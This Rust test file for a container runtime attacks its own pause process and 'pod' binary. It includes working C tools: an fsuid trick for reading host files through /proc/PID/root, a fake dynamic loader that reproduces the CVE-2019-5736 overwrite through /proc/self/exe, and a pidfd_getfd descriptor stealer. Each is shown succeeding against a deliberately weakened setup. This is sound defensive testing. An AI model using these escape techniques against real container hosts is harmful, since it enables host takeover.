//! Attacks on the pause process and on the `pod` binary the container init
//! runs from, from inside real pods (issue 14: the pause process and the
//! container init hold nothing of the host). Each attack is first shown to
//! work against a weakened set-up (a process as the old pause was: uid
//! 65535 in the host's mount namespace, dumpable; a dynamically linked
//! binary on a host path), so that a test which stops attacking fails.
//!
//! The attacker's tools are tiny static C programs compiled here with the
//! host's C compiler (the one Rust links with) and handed to the pods
//! through a hostPath volume: busybox can neither set the fsuid nor stand
//! in for a dynamic loader.

mod common;

use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::host::compile;
use common::pods::{create, delete_and_check_clean, wait_log, wait_until};
use common::{Env, import_busybox};

/// The kubelet's pause identity, which the old pause process ran as.
const PAUSE_ID: &str = "65535";

/// `open-as FSUID|- read|write PATH`: sets fsuid and fsgid (unless `-`),
/// opens PATH, lists it if it is a directory, and prints `opened` or the
/// error. Root keeps its real and effective uid, so this is the "root
/// container with fsuid 65535" of the issue.
const OPEN_AS: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fsuid.h>
int main(int argc, char **argv) {
    if (argc != 4) return 2;
    if (strcmp(argv[1], "-") != 0) {
        int id = atoi(argv[1]);
        setfsgid(id);
        setfsuid(id);
        if (setfsuid(-1) != id) { puts("setfsuid failed"); return 2; }
    }
    int fd = open(argv[3], strcmp(argv[2], "write") == 0 ? O_WRONLY : O_RDONLY);
    if (fd < 0) { printf("%s\n", strerror(errno)); return 1; }
    DIR *dir = fdopendir(fd);
    if (dir) {
        struct dirent *entry;
        while ((entry = readdir(dir))) printf("%s\n", entry->d_name);
    }
    puts("opened");
    return 0;
}
"#;

/// A fake dynamic loader (CVE-2019-5736's way in): executed as the
/// interpreter of a dynamically linked program, it runs with
/// /proc/self/exe naming that program. It appends `exe <link>` to
/// /tools/result, keeps an O_PATH descriptor of the program at fd 9 and
/// executes a shell, so the program is no longer busy; the shell retries
/// opening the descriptor for writing for 2 s and appends `written` (it
/// wrote `pwned` over the program's first bytes) or the error. No libc: it
/// runs in the address space the kernel made for the other program.
#[cfg(target_arch = "x86_64")]
const FAKE_LOADER: &str = r#"
static long sys(long n, long a, long b, long c) {
    long r;
    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
                      : "rcx", "r11", "memory");
    return r;
}
static void say(const char *s, long n) {
    long fd = sys(2, (long)"/tools/result", 02101, 0644); /* O_WRONLY|O_CREAT|O_APPEND */
    sys(1, fd, (long)s, n);
    sys(3, fd, 0, 0);
}
/* Opens the program for writing until it is no longer busy. */
#define RETRY \
    "for i in $(seq 200); do" \
    "  if err=$( (printf pwned 1<>/proc/self/fd/9) 2>&1 ); then" \
    "    echo written >> /tools/result; exit; fi;" \
    "  case $err in *busy*) sleep 0.01;; *) break;; esac;" \
    "done; echo \"$err\" >> /tools/result"
void _start(void) {
    char line[300];
    line[0] = 'e'; line[1] = 'x'; line[2] = 'e'; line[3] = ' ';
    long n = sys(89, (long)"/proc/self/exe", (long)line + 4, 256); /* readlink */
    if (n < 0) n = 0;
    line[4 + n] = '\n';
    say(line, 5 + n);
    long fd = sys(2, (long)"/proc/self/exe", 010000000, 0); /* O_PATH */
    sys(33, fd, 9, 0); /* dup2, without close-on-exec */
    const char *argv[] = {"sh", "-c", RETRY, 0};
    const char *envp[] = {"PATH=/bin", 0};
    sys(59, (long)"/bin/sh", (long)argv, (long)envp); /* execve */
    sys(60, 1, 0, 0);
}
"#;

/// The interpreter the host's dynamically linked programs name.
#[cfg(target_arch = "x86_64")]
const LOADER_PATH: &str = "/lib64/ld-linux-x86-64.so.2";

/// Compiles the attacker's tools into `<env>/tools` (mounted at /tools).
fn tools(env: &Env) -> PathBuf {
    let dir = env.dir.path().join("tools");
    std::fs::create_dir_all(&dir).unwrap();
    compile(&dir, "open-as", OPEN_AS, &["-static", "-O1"]);
    #[cfg(target_arch = "x86_64")]
    compile(
        &dir,
        "fake-loader",
        FAKE_LOADER,
        &["-static", "-nostdlib", "-fno-stack-protector", "-O1"],
    );
    dir
}

fn env() -> Env {
    let env = Env::new();
    import_busybox(&env.root());
    env
}

/// A process of the test, killed by its pid when dropped.
struct Process(Child);

impl Drop for Process {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The weakened set-up: a process as the pause process used to be, uid and
/// gid 65535, no capabilities, dumpable, in the host's mount namespace.
fn old_style_pause() -> Process {
    let child = Command::new("setpriv")
        .args(["--reuid", PAUSE_ID, "--regid", PAUSE_ID, "--clear-groups"])
        .args([common::HOST_BUSYBOX, "sleep", "600"])
        .current_dir("/")
        .stdin(Stdio::null())
        .spawn()
        .expect("running setpriv (util-linux)");
    // Weakened once setpriv has changed its identity and executed
    // busybox, not before (a probe of it on a loaded machine came too
    // early).
    let pid = child.id();
    let busybox = std::fs::canonicalize(common::HOST_BUSYBOX).unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::fs::read_link(format!("/proc/{pid}/exe")).ok() != Some(busybox.clone()) {
        assert!(Instant::now() < deadline, "setpriv never ran busybox");
        std::thread::sleep(Duration::from_millis(10));
    }
    Process(child)
}

/// The host pid of the pod's pause process.
fn pause_pid(env: &Env, name: &str, uid: &str) -> i32 {
    let path = env.run_root().join("pods").join(uid).join("processes.json");
    wait_until(env, name, "the pause process", || {
        let processes: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&path).ok()?).ok()?;
        processes["(pause)"]["pid"].as_i64().map(|pid| pid as i32)
    })
}

/// `open-as` in container `container` of pod `name`, through `pod exec`.
fn open_as(env: &Env, name: &str, container: &str, fsuid: &str, mode: &str, path: &str) -> String {
    let out = env.run(&[
        "exec",
        name,
        "-c",
        container,
        "--",
        "/tools/open-as",
        fsuid,
        mode,
        path,
    ]);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    if stdout.is_empty() {
        // Nothing of open-as: what the exec said instead, for the failure.
        eprintln!(
            "exec in {container} ({}): {}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
    }
    stdout
}

/// Two containers, one running as the pause identity and one as root
/// (with the default capabilities), both with the tools.
fn attackers(name: &str, pid_sharing: &str, tools: &Path) -> String {
    format!(
        r#"
apiVersion: v1
kind: Pod
metadata:
  name: {name}
spec:
  {pid_sharing}
  volumes:
  - name: tools
    hostPath: {{path: {tools}, type: Directory}}
  containers:
  - name: nobody
    image: busybox
    imagePullPolicy: Never
    securityContext: {{runAsUser: 65535, runAsGroup: 65535}}
    volumeMounts: [{{name: tools, mountPath: /tools}}]
    command: [sh, -c, 'echo ready; sleep 3600']
  - name: rooted
    image: busybox
    imagePullPolicy: Never
    volumeMounts: [{{name: tools, mountPath: /tools}}]
    command: [sh, -c, 'echo ready; sleep 3600']
"#,
        tools = tools.display()
    )
}

#[test]
fn pause_root_is_out_of_reach_where_a_host_mount_namespace_process_is_not() {
    let env = env();
    let tools = tools(&env);
    let old = old_style_pause();
    // With the host's PID namespace the containers see both the weakened
    // process and the pause process.
    let uid = create(
        &env,
        "hostpid",
        &attackers("hostpid", "hostPID: true", &tools),
    );
    wait_log(&env, "hostpid", &uid, "nobody", "ready");
    wait_log(&env, "hostpid", &uid, "rooted", "ready");
    let pause = pause_pid(&env, "hostpid", &uid);
    // A host directory the containers' own filesystems do not have.
    let marker = env.dir.path().display().to_string();

    // Against the weakened set-up both attacks reach the host's files.
    let old_root = format!("/proc/{}/root{marker}", old.0.id());
    let seen = open_as(&env, "hostpid", "nobody", "-", "read", &old_root);
    assert!(seen.contains("tools") && seen.contains("opened"), "{seen}");
    let seen = open_as(&env, "hostpid", "rooted", "-", "read", &old_root);
    assert_eq!(seen, "Permission denied\n", "root without the fsuid trick");
    let seen = open_as(&env, "hostpid", "rooted", PAUSE_ID, "read", &old_root);
    assert!(seen.contains("tools") && seen.contains("opened"), "{seen}");

    // The same attacks against the pause process.
    for path in [
        format!("/proc/{pause}/root/"),
        format!("/proc/{pause}/cwd/"),
    ] {
        let seen = open_as(&env, "hostpid", "nobody", "-", "read", &path);
        assert_eq!(seen, "Permission denied\n", "uid 65535, {path}");
        let seen = open_as(&env, "hostpid", "rooted", PAUSE_ID, "read", &path);
        assert_eq!(seen, "Permission denied\n", "root with fsuid 65535, {path}");
    }
    delete_and_check_clean(&env, "hostpid", &uid);
}

#[test]
fn pause_in_a_shared_pid_namespace_holds_nothing_of_the_host() {
    let env = env();
    let tools = tools(&env);
    let uid = create(
        &env,
        "shared",
        &attackers("shared", "shareProcessNamespace: true", &tools),
    );
    wait_log(&env, "shared", &uid, "nobody", "ready");
    wait_log(&env, "shared", &uid, "rooted", "ready");
    let exec = |container: &str, argv: &[&str]| {
        let mut args = vec!["exec", "shared", "-c", container, "--"];
        args.extend_from_slice(argv);
        env.ok(&args)
    };

    // The issue's attacks, through PID 1.
    for path in ["/proc/1/root/", "/proc/1/cwd/", "/proc/1/root/proc/"] {
        let seen = open_as(&env, "shared", "nobody", "-", "read", path);
        assert_eq!(seen, "Permission denied\n", "uid 65535, {path}");
        let seen = open_as(&env, "shared", "rooted", PAUSE_ID, "read", path);
        assert_eq!(seen, "Permission denied\n", "root with fsuid 65535, {path}");
    }
    for fsuid in ["-", PAUSE_ID] {
        let seen = open_as(&env, "shared", "rooted", fsuid, "write", "/proc/1/exe");
        assert_eq!(
            seen, "Permission denied\n",
            "writing /proc/1/exe, fsuid {fsuid}"
        );
    }
    // Not dumpable: the kernel gives its private /proc files to root.
    assert_eq!(
        exec("nobody", &["stat", "-c", "%u", "/proc/1/environ"]),
        "0\n"
    );
    let status = exec("nobody", &["cat", "/proc/1/status"]);
    for line in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
        assert!(
            status.contains(&format!("{line}:\t0000000000000000\n")),
            "{line}: {status}"
        );
    }
    assert!(status.contains("NoNewPrivs:\t1\n"), "{status}");
    assert!(
        status.contains("Uid:\t65535\t65535\t65535\t65535\n"),
        "{status}"
    );
    let ps = exec("nobody", &["ps", "-o", "pid,args"]);
    assert_eq!(
        ps.lines()
            .nth(1)
            .map(str::split_whitespace)
            .map(Iterator::collect::<Vec<_>>),
        Some(vec!["1", "/pause"]),
        "{ps}"
    );

    // What root on the host sees: an empty read-only root, alone in its
    // mount namespace, no descriptors, a sealed memfd as its program, and
    // a few pages of memory (issue 19: at most 1 MiB).
    let pause = pause_pid(&env, "shared", &uid);
    let proc = PathBuf::from(format!("/proc/{pause}"));
    let root: Vec<_> = std::fs::read_dir(proc.join("root")).unwrap().collect();
    assert!(root.is_empty(), "{root:?}");
    let mountinfo = std::fs::read_to_string(proc.join("mountinfo")).unwrap();
    assert_eq!(mountinfo.lines().count(), 1, "{mountinfo}");
    assert!(
        mountinfo.contains(" / / ro,") && mountinfo.contains(" tmpfs "),
        "{mountinfo}"
    );
    let fds: Vec<_> = std::fs::read_dir(proc.join("fd")).unwrap().collect();
    assert!(fds.is_empty(), "{fds:?}");
    let exe = std::fs::read_link(proc.join("exe")).unwrap();
    assert_eq!(exe, Path::new("/memfd:pause (deleted)"));
    let write = std::fs::OpenOptions::new()
        .write(true)
        .open(proc.join("exe"))
        .and_then(|mut f| std::io::Write::write_all(&mut f, b"x"));
    assert!(write.is_err(), "the pause program is sealed");
    let status = std::fs::read_to_string(proc.join("status")).unwrap();
    let rss_kib: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches(" kB").parse().ok())
        .unwrap_or_else(|| panic!("no VmRSS in {status}"));
    assert!(rss_kib <= 1024, "pause RSS {rss_kib} KiB");
    // And this very process is PID 1 of the pod's shared PID namespace.
    assert!(
        status.contains(&format!("NSpid:\t{pause}\t1\n")),
        "{status}"
    );
    assert_eq!(
        std::fs::read_to_string(proc.join("comm")).unwrap(),
        "pause\n"
    );
    delete_and_check_clean(&env, "shared", &uid);
}

/// CVE-2019-5736: a container runs `#!/proc/self/exe`, so `pod exec`'s
/// process executes the binary it runs from, inside the container, with a
/// loader the container chose; that loader then writes to
/// /proc/self/exe.
#[cfg(target_arch = "x86_64")]
#[test]
fn the_pod_binary_cannot_be_overwritten_through_proc_self_exe() {
    let env = env();
    let tools = tools(&env);
    // The weakened set-up: a dynamically linked program on a host path.
    let victim = tools.join("victim");
    std::fs::copy("/bin/true", &victim).unwrap();
    let result = tools.join("result");
    let uid = create(
        &env,
        "cve",
        &format!(
            r##"
apiVersion: v1
kind: Pod
metadata:
  name: cve
spec:
  volumes:
  - name: tools
    hostPath: {{path: {}, type: Directory}}
  containers:
  - name: evil
    image: busybox
    imagePullPolicy: Never
    volumeMounts: [{{name: tools, mountPath: /tools}}]
    command: [sh, -c, 'mkdir -p $(dirname {LOADER_PATH}) && cp /tools/fake-loader {LOADER_PATH} && printf "#!/proc/self/exe\n" > /evil && chmod +x /evil && echo ready; sleep 3600']
"##,
            tools.display()
        ),
    );
    wait_log(&env, "cve", &uid, "evil", "ready");
    let outcome = |command: &str| {
        let _ = std::fs::remove_file(&result);
        let _ = env.run(&["exec", "cve", "-c", "evil", "--", command]);
        let deadline = Instant::now() + Duration::from_secs(60);
        loop {
            let text = std::fs::read_to_string(&result).unwrap_or_default();
            if text.lines().count() >= 2 || Instant::now() > deadline {
                return text;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
    };

    let text = outcome("/tools/victim");
    assert_eq!(text, "exe /tools/victim\nwritten\n");
    assert!(std::fs::read(&victim).unwrap().starts_with(b"pwned"));

    let binary = std::fs::canonicalize(env!("CARGO_BIN_EXE_pod")).unwrap();
    let before = std::fs::read(&binary).unwrap();
    let text = outcome("/evil");
    let mut lines = text.lines();
    let exe = lines.next().unwrap_or_default();
    assert!(exe.starts_with("exe "), "{text}");
    assert_ne!(exe, format!("exe {}", binary.display()), "{text}");
    let error = lines.next().unwrap_or_default();
    assert!(error.ends_with("Read-only file system"), "{text}");
    assert!(
        std::fs::read(&binary).unwrap() == before,
        "the pod binary changed"
    );
    delete_and_check_clean(&env, "cve", &uid);
}

/// The container init sets itself not dumpable before it reads its
/// configuration: run as the pause identity and held there (nobody writes
/// the configuration), it is closed to another process of the same uid,
/// while a dumpable process of that uid is open to it.
#[test]
fn the_container_init_is_not_dumpable() {
    let (config_read, config_write) = nix::unistd::pipe().unwrap();
    let (error_read, error_write) = nix::unistd::pipe().unwrap();
    let (config_fd, error_fd) = (config_read.as_raw_fd(), error_write.as_raw_fd());
    let mut command = Command::new("setpriv");
    command
        .args(["--reuid", PAUSE_ID, "--regid", PAUSE_ID, "--clear-groups"])
        .arg(env!("CARGO_BIN_EXE_pod"))
        .arg("__pod-container-init")
        .stdin(Stdio::null());
    // SAFETY: dup2 only, between fork and exec.
    unsafe {
        command.pre_exec(move || {
            if libc::dup2(config_fd, 3) < 0 || libc::dup2(error_fd, 4) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let init = Process(command.spawn().unwrap());
    drop((config_read, error_write));
    let old = old_style_pause();
    let probe = |pid: u32| {
        Command::new("setpriv")
            .args(["--reuid", PAUSE_ID, "--regid", PAUSE_ID, "--clear-groups"])
            .args([common::HOST_BUSYBOX, "cat", &format!("/proc/{pid}/environ")])
            .output()
            .unwrap()
            .status
            .success()
    };
    // The init runs the pod binary (not setpriv) once /proc/<pid>/exe says
    // so; then it blocks reading the configuration: in a system call on
    // fd 3 (/proc/<pid>/syscall: its number, then its first argument),
    // waited for rather than given a fixed time a loaded machine may not
    // keep to.
    let deadline = Instant::now() + Duration::from_secs(60);
    let binary = std::fs::canonicalize(env!("CARGO_BIN_EXE_pod")).unwrap();
    let pid = init.0.id();
    let reading = || {
        std::fs::read_to_string(format!("/proc/{pid}/syscall"))
            .is_ok_and(|s| s.split_whitespace().nth(1) == Some("0x3"))
    };
    while std::fs::read_link(format!("/proc/{pid}/exe")).ok() != Some(binary.clone()) || !reading()
    {
        assert!(
            Instant::now() < deadline,
            "the init never read its configuration"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        probe(old.0.id()),
        "a dumpable process of the same uid is open"
    );
    assert!(!probe(init.0.id()), "the init is not dumpable");
    drop((config_write, error_read));
}

/// `take-fd PID FD`: takes descriptor FD of process PID with pidfd_getfd
/// (which needs ptrace's attach right over it) and prints `taken: socket`
/// (or what it is), or the error.
const TAKE_FD: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    if (argc != 3) return 2;
    int pidfd = syscall(434, atoi(argv[1]), 0); /* pidfd_open */
    if (pidfd < 0) { printf("pidfd_open: %s\n", strerror(errno)); return 1; }
    int fd = syscall(438, pidfd, atoi(argv[2]), 0); /* pidfd_getfd */
    if (fd < 0) { printf("%s\n", strerror(errno)); return 1; }
    struct stat st;
    fstat(fd, &st);
    printf("taken: %s\n", S_ISSOCK(st.st_mode) ? "socket" : "other");
    return 0;
}
"#;

/// In a pod with a tty container the pause process holds the two sockets
/// that keep the pod's terminals (`runtime::kept_ttys`) and nothing else;
/// a container of a `shareProcessNamespace` pod sees it as PID 1, and
/// neither its root nor the pause identity can take them
/// (`pidfd_getfd`): only a container given CAP_SYS_PTRACE can, which
/// could ptrace the pod's processes anyway (the check that the attack
/// reaches something).
#[test]
fn pause_keeps_the_terminals_out_of_reach_of_a_container_without_cap_sys_ptrace() {
    let env = env();
    let tools = tools(&env);
    compile(&tools, "take-fd", TAKE_FD, &["-static", "-O1"]);
    let mut yaml = attackers("ttys", "shareProcessNamespace: true", &tools);
    yaml.push_str(
        "  - name: tracer
    image: busybox
    imagePullPolicy: Never
    securityContext: {capabilities: {add: [SYS_PTRACE]}}
    volumeMounts: [{name: tools, mountPath: /tools}]
    command: [sh, -c, 'echo ready; sleep 3600']
  - name: term
    image: busybox
    imagePullPolicy: Never
    stdin: true
    tty: true
",
    );
    let uid = create(&env, "ttys", &yaml);
    for container in ["nobody", "rooted", "tracer"] {
        wait_log(&env, "ttys", &uid, container, "ready");
    }
    let pause = pause_pid(&env, "ttys", &uid);
    let mut fds: Vec<String> = std::fs::read_dir(format!("/proc/{pause}/fd"))
        .unwrap()
        .flatten()
        .map(|e| {
            let target = std::fs::read_link(e.path()).unwrap();
            format!("{} {}", e.file_name().to_string_lossy(), target.display())
        })
        .map(|l| l.split(":[").next().unwrap().to_string())
        .collect();
    fds.sort();
    assert_eq!(fds, ["5 socket", "6 socket"]);
    let take = |container: &str, fd: &str| {
        let out = env.run(&[
            "exec",
            "ttys",
            "-c",
            container,
            "--",
            "/tools/take-fd",
            "1",
            fd,
        ]);
        if out.stdout.is_empty() {
            eprintln!(
                "exec in {container} ({}): {}",
                out.status,
                String::from_utf8_lossy(&out.stderr)
            );
        }
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    for fd in ["5", "6"] {
        assert_eq!(take("nobody", fd), "Operation not permitted\n", "fd {fd}");
        assert_eq!(take("rooted", fd), "Operation not permitted\n", "fd {fd}");
        assert_eq!(take("tracer", fd), "taken: socket\n", "fd {fd}");
    }
    delete_and_check_clean(&env, "ttys", &uid);
}
